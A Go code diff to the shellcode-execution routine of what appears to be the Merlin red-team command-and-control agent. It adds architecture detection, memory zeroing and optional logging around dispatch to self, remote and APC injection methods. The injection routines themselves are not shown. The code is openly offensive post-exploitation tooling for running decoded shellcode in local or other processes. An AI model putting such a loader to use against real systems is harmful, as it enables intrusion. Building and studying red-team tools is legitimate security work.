@@ -27,26 +27,55 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
 )
 
 // ExecuteShellcode instructs the agent to load and run shellcode according to the input job
 func ExecuteShellcode(cmd jobs.Shellcode) jobs.Results {
 	var results jobs.Results
 
-	cli.Message(cli.DEBUG, fmt.Sprintf("Received input parameter for executeShellcode function: %+v", cmd))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("Received input parameter for executeShellcode function: %+v", cmd))
+	}
 
 	shellcodeBytes, errDecode := base64.StdEncoding.DecodeString(cmd.Bytes)
 
 	if errDecode != nil {
 		results.Stderr = fmt.Sprintf("there was an error decoding the shellcode Base64 string:\r\n%s", errDecode)
-		cli.Message(cli.WARN, results.Stderr)
+		if cli.Enabled {
+			cli.Message(cli.WARN, results.Stderr)
+		}
 		return results
 	}
+	// Every execution method copies the shellcode so it is zeroed when this function returns
+	defer secure.Zero(shellcodeBytes)
 
-	cli.Message(cli.INFO, fmt.Sprintf("Shelcode execution method: %s", cmd.Method))
-	cli.Message(cli.INFO, fmt.Sprintf("Executing shellcode %x", shellcodeBytes))
+	// The method can be tagged with the shellcode's architecture, such as remote:x86, otherwise it is detected from
+	// the prologue of common payloads
+	method, arch, err := shellcodeMethod(cmd.Method)
+	if err != nil {
+		results.Stderr = err.Error()
+		return results
+	}
+	if arch == "" {
+		arch = detectShellcodeArch(shellcodeBytes)
+	}
+	if arch != "" {
+		if err = shellcodeTarget(method, arch, cmd.PID); err != nil {
+			results.Stderr = fmt.Sprintf("the shellcode was not executed: %s", err)
+			if cli.Enabled {
+				cli.Message(cli.WARN, results.Stderr)
+			}
+			return results
+		}
+	}
+
+	if cli.Enabled {
+		cli.Message(cli.INFO, fmt.Sprintf("Shelcode execution method: %s", method))
+		cli.Message(cli.INFO, fmt.Sprintf("Executing shellcode %x", shellcodeBytes))
+	}
 
-	switch cmd.Method {
+	switch method {
 	case "self":
 		err := ExecuteShellcodeSelf(shellcodeBytes)
 		if err != nil {
@@ -68,16 +97,20 @@ func ExecuteShellcode(cmd jobs.Shellcode) jobs.Results {
 			results.Stderr = fmt.Sprintf("there was an error executing shellcode with the \"userapc\" method:\r\n%s", err)
 		}
 	default:
-		results.Stderr = fmt.Sprintf("invalid shellcode execution method: %s", cmd.Method)
+		results.Stderr = fmt.Sprintf("invalid shellcode execution method: %s", method)
 	}
 	if results.Stderr == "" {
-		results.Stdout = fmt.Sprintf("Shellcode %s method successfully executed", cmd.Method)
+		results.Stdout = fmt.Sprintf("Shellcode %s method successfully executed", method)
 	}
 
 	if results.Stderr == "" {
-		cli.Message(cli.SUCCESS, results.Stdout)
+		if cli.Enabled {
+			cli.Message(cli.SUCCESS, results.Stdout)
+		}
 	} else {
-		cli.Message(cli.WARN, results.Stderr)
+		if cli.Enabled {
+			cli.Message(cli.WARN, results.Stderr)
+		}
 	}
 	return results
 }